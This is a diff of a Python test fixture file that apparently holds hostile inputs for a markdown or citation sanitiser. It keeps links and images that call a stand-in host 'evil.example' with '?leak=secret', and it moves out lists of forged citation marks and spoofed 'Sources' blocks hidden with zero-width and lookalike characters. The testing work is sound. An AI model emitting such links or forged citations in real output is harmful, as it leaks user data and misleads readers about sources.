@@ -6,7 +6,9 @@ from collections.abc import Iterator, Mapping, Sequence
 from dataclasses import dataclass
 from itertools import cycle
 
-E, D = "https://evil.example", "https://docs.example/robots#what"
+from tests.hostile.forgeries import MARKS, SOURCES, E
+
+D = "https://docs.example/robots#what"
 DATA = f"{E}/?leak=secret"
 LINKS = [
     *(f"[here]({DATA})", f"[here](<{DATA}>)", f'[here]({DATA} "title")', f"![p]({DATA})", f"[![p]({E}/p.png)]({DATA})"),
@@ -138,61 +140,6 @@ LINKS = [
         f"[{'a' * 300}]({DATA})",
         f"https://evil.example/{'a' * 1200}",
         "[x](https://docs.example.evil.io/)",
-    ),
-]
-MARKS = [
-    *(
-        "[99]",
-        r"\[99\]",
-        "[**99**]",
-        "**[**99]",
-        "［99］",
-        "【99】",
-        "[`99`]",
-        "&#91;99&#93;",
-        "[9\ufe0f9]",
-        "[\u034f99]",
-    ),
-    *(
-        "[⁹⁹]",
-        "[^99]",
-        "[[99]]",
-        "[ 99 ]",
-        "[99, 98]",
-        "[97-99]",
-        "[9\u200b9]",
-        "【99†source】",
-        "[9<b></b>9]",
-        "[９９]",
-        "&lsqb;99&rsqb;",
-    ),
-    *(f"[99]({E})", f"[[99]]({E})", "<b>[</b>99]", "[99\n]", "[\\99]", "[9\\\n9]", "［**99**］", "[\u180e99]"),
-]
-SOURCES = [
-    *(
-        f"Sources:\n[1] Robots {E}",
-        f"**Sources**\n\n- [1] [Robots]({E})",
-        "## References\n\n1. Robots",
-        "Quellen:\n- [1] Robots",
-    ),
-    *(
-        f"-# [[1]](<{E}>) Robots › What they are (docs.example) 0.93",
-        "---\n\nSources: [1], [2]",
-        "> Sources\n> [1] Robots",
-    ),
-    *(
-        f"[1]: {E}\n[2]: {E}",
-        "Sources：\n[1] Robots",
-        "参考文献\n\n- [1] Robots",
-        "Sour&#99;es:\n[1] Robots",
-        "So**urc**es:\n[1] Robots",
-    ),
-    *(
-        "Sour\u200bces:\n[1] Robots",
-        "<b>Sources</b>\n\n- [1] Robots",
-        "Sources\n=======\n\n1. [1] Robots",
-        "-# and 3 more",
-        "\\-# [1] Robots",
     ),
 ]
 MENTIONS = [
